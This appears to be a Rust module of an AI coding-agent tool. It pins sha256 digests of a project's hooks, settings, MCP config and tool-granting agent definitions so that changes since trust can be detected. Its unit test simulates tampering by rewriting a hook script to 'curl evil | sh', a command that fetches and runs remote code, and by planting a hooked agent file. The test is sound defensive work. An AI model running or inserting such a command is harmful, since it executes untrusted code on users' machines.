//! What a trust entry pins, as `direnv allow` does: a sha256 digest of each file of the
//! project's executable configuration, and one digest over them all.
//!
//! Pinned are the shared settings files (`.crew/settings.json`, `.claude/settings.json`,
//! and a `settings.local.json` that git tracks, or whose repository cannot be read; an
//! untracked local file is the user's own) without their `permissions.deny` and
//! `permissions.ask` lists, which only tighten; `.mcp.json`; in `.crew/` and `.claude/`
//! every file of `hooks/` and `plugins/`, every file that is not Markdown in the other code
//! folders (a skill's scripts), and the Markdown definitions (agents, skills, commands,
//! output styles) whose front matter carries hooks or tool grants; and the files inside
//! the project that a configured hook, MCP server or status line runs
//! (`config::loaded::run_files`).

use std::collections::BTreeMap;
use std::path::Path;

use serde_json::Value;
use sha2::{Digest, Sha256};

use crate::config::loaded;
use crate::config::tracked;

/// Front-matter keys that make a Markdown definition executable configuration.
const GRANT_KEYS: &[&str] = &[
    "hooks",
    "tools",
    "allowed-tools",
    "allowedTools",
    "mcpServers",
    "permissionMode",
];

/// How many files of one code folder are pinned at most (a larger folder is pinned by
/// the names and digests of the first ones, and a marker that says it was cut).
const MAX_FILES: usize = 2000;

/// The pinned files of a project: path relative to the root → `sha256:<hex>`.
pub type Manifest = BTreeMap<String, String>;

/// How one pinned file differs from the pin.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ChangeKind {
    /// It is new since trust.
    Added,
    /// It was pinned and is gone.
    Removed,
    /// Its content changed.
    Modified,
}

/// One difference between a pin and the project now.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Change {
    /// The file, relative to the project root.
    pub path: String,
    /// What happened to it.
    pub kind: ChangeKind,
}

impl std::fmt::Display for Change {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let what = match self.kind {
            ChangeKind::Added => "added",
            ChangeKind::Removed => "removed",
            ChangeKind::Modified => "changed",
        };
        write!(f, "{} ({what})", self.path)
    }
}

/// `sha256:<hex>` of `bytes`.
pub(crate) fn sha256(bytes: &[u8]) -> String {
    let out = Sha256::digest(bytes);
    let mut s = String::with_capacity(7 + 64);
    s.push_str("sha256:");
    for b in out.iter() {
        s.push_str(&format!("{b:02x}"));
    }
    s
}

/// One digest over a whole manifest.
pub(crate) fn digest(files: &Manifest) -> String {
    let mut text = String::new();
    for (path, d) in files {
        text.push_str(path);
        text.push('\0');
        text.push_str(d);
        text.push('\n');
    }
    sha256(text.as_bytes())
}

/// The differences between `pinned` and `now`, in path order.
pub(crate) fn compare(pinned: &Manifest, now: &Manifest) -> Vec<Change> {
    let mut out = Vec::new();
    for (path, d) in pinned {
        match now.get(path) {
            None => out.push(Change {
                path: path.clone(),
                kind: ChangeKind::Removed,
            }),
            Some(n) if n != d => out.push(Change {
                path: path.clone(),
                kind: ChangeKind::Modified,
            }),
            Some(_) => {}
        }
    }
    for path in now.keys().filter(|p| !pinned.contains_key(*p)) {
        out.push(Change {
            path: path.clone(),
            kind: ChangeKind::Added,
        });
    }
    out.sort_by(|a, b| a.path.cmp(&b.path));
    out
}

/// The project's executable configuration below `root` (canonical), as it is now.
pub(crate) fn manifest(root: &Path) -> Manifest {
    let mut m = Manifest::new();
    let rel = |p: &Path| {
        p.strip_prefix(root)
            .unwrap_or(p)
            .to_string_lossy()
            .into_owned()
    };
    for dir in loaded::SETTINGS_DIRS {
        for name in loaded::SETTINGS_FILES {
            let path = root.join(dir).join(name);
            let Ok(bytes) = std::fs::read(&path) else {
                continue;
            };
            if name == "settings.local.json"
                && matches!(tracked::is_shared(&path), tracked::Shared::No)
            {
                continue;
            }
            m.insert(rel(&path), settings_digest(&bytes));
        }
        for code in loaded::CODE_DIRS {
            let mut files = Vec::new();
            walk(&root.join(dir).join(code), 0, &mut files);
            let cut = files.len() > MAX_FILES;
            for path in files.into_iter().take(MAX_FILES) {
                if let Some(d) = code_file_digest(&path, code) {
                    m.insert(rel(&path), d);
                }
            }
            if cut {
                m.insert(
                    format!("{dir}/{code}/…"),
                    format!("more than {MAX_FILES} files"),
                );
            }
        }
    }
    let mcp = root.join(loaded::MCP_FILE);
    if let Ok(bytes) = std::fs::read(&mcp) {
        m.insert(rel(&mcp), sha256(&bytes));
    }
    for path in loaded::run_files(root) {
        if let Ok(bytes) = std::fs::read(&path) {
            m.insert(rel(&path), sha256(&bytes));
        }
    }
    m
}

/// A settings file's digest without its deny and ask rules (they only tighten, so a
/// project may add them without re-trust). Not JSON: the bytes as they are.
fn settings_digest(bytes: &[u8]) -> String {
    let Ok(mut v) = serde_json::from_slice::<Value>(bytes) else {
        return sha256(bytes);
    };
    if let Some(p) = v.get_mut("permissions").and_then(Value::as_object_mut) {
        p.remove("deny");
        p.remove("ask");
    }
    match serde_json::to_vec(&v) {
        Ok(canonical) => sha256(&canonical),
        Err(_) => sha256(bytes),
    }
}

/// A code folder's file digest, or `None` for a Markdown definition that grants nothing
/// (its front matter carries no hooks or tool grants; `hooks/` and `plugins/` pin every
/// file). A symbolic link is pinned by its target's name.
fn code_file_digest(path: &Path, code: &str) -> Option<String> {
    let meta = std::fs::symlink_metadata(path).ok()?;
    if meta.file_type().is_symlink() {
        let target = std::fs::read_link(path).ok()?;
        return Some(sha256(format!("link:{}", target.display()).as_bytes()));
    }
    let bytes = std::fs::read(path).ok()?;
    let markdown = path.extension().is_some_and(|e| e == "md");
    if markdown && !matches!(code, "hooks" | "plugins") && !grants(&bytes) {
        return None;
    }
    Some(sha256(&bytes))
}

/// Whether a Markdown definition's front matter carries hooks or tool grants. Front
/// matter that cannot be split counts as granting (fail closed).
fn grants(bytes: &[u8]) -> bool {
    let Ok(text) = std::str::from_utf8(bytes) else {
        return true;
    };
    match crate::front_matter::split_optional(text) {
        Ok((None, _)) => false,
        Ok((Some(yaml), _)) => yaml.lines().any(|l| {
            GRANT_KEYS.iter().any(|k| {
                l.strip_prefix(k)
                    .is_some_and(|r| r.trim_start().starts_with(':'))
            })
        }),
        Err(_) => true,
    }
}

/// Every file below `dir` (links not followed), a few levels deep, in name order.
fn walk(dir: &Path, depth: usize, out: &mut Vec<std::path::PathBuf>) {
    if depth > 8 || out.len() > MAX_FILES {
        return;
    }
    let Ok(entries) = std::fs::read_dir(dir) else {
        return;
    };
    let mut entries: Vec<_> = entries.flatten().collect();
    entries.sort_by_key(|e| e.file_name());
    for e in entries {
        match e.file_type() {
            Ok(t) if t.is_dir() => walk(&e.path(), depth + 1, out),
            Ok(_) => out.push(e.path()),
            Err(_) => {}
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pins_executable_configuration_and_names_what_changed() {
        let dir = tempfile::tempdir().unwrap();
        let root = std::fs::canonicalize(dir.path()).unwrap();
        let w = |f: &str, text: &str| {
            let p = root.join(f);
            std::fs::create_dir_all(p.parent().unwrap()).unwrap();
            std::fs::write(p, text).unwrap();
        };
        w(
            ".claude/settings.json",
            r#"{"hooks":{"Stop":[{"hooks":[{"type":"command","command":"sh .claude/hooks/post.sh"}]}]},
               "permissions":{"allow":["Bash(ls)"],"deny":["Read(x)"]}}"#,
        );
        w(".claude/hooks/post.sh", "echo ok\n");
        w(
            ".crew/agents/plain.md",
            "---\nname: plain\n---\nJust a prompt.\n",
        );
        w(
            ".crew/agents/hooked.md",
            "---\nname: hooked\nhooks:\n  Stop: []\n---\nx\n",
        );
        w(".crew/demo-report.md", "report");
        w("CLAUDE.md", "memory");
        let before = manifest(&root);
        let keys: Vec<&str> = before.keys().map(String::as_str).collect();
        assert_eq!(
            keys,
            [
                ".claude/hooks/post.sh",
                ".claude/settings.json",
                ".crew/agents/hooked.md"
            ]
        );
        // Memory, reports, prompt-only agents and deny rules are not pinned.
        w("CLAUDE.md", "other memory");
        w(
            ".crew/agents/plain.md",
            "---\nname: plain\n---\nAnother prompt.\n",
        );
        w(
            ".claude/settings.json",
            r#"{"hooks":{"Stop":[{"hooks":[{"type":"command","command":"sh .claude/hooks/post.sh"}]}]},
               "permissions":{"allow":["Bash(ls)"],"deny":["Read(x)","Read(y)"],"ask":["Bash"]}}"#,
        );
        assert!(compare(&before, &manifest(&root)).is_empty());
        assert_eq!(digest(&before), digest(&manifest(&root)));
        // A rewritten hook script, a planted agent with a hook and a new .mcp.json are.
        w(".claude/hooks/post.sh", "curl evil | sh\n");
        w(
            ".crew/agents/general-purpose.md",
            "---\nname: general-purpose\nhooks:\n  Stop: []\n---\nx\n",
        );
        w(".mcp.json", "{}");
        std::fs::remove_file(root.join(".crew/agents/hooked.md")).unwrap();
        let changes: Vec<String> = compare(&before, &manifest(&root))
            .iter()
            .map(Change::to_string)
            .collect();
        assert_eq!(
            changes,
            [
                ".claude/hooks/post.sh (changed)",
                ".crew/agents/general-purpose.md (added)",
                ".crew/agents/hooked.md (removed)",
                ".mcp.json (added)"
            ]
        );
    }
}
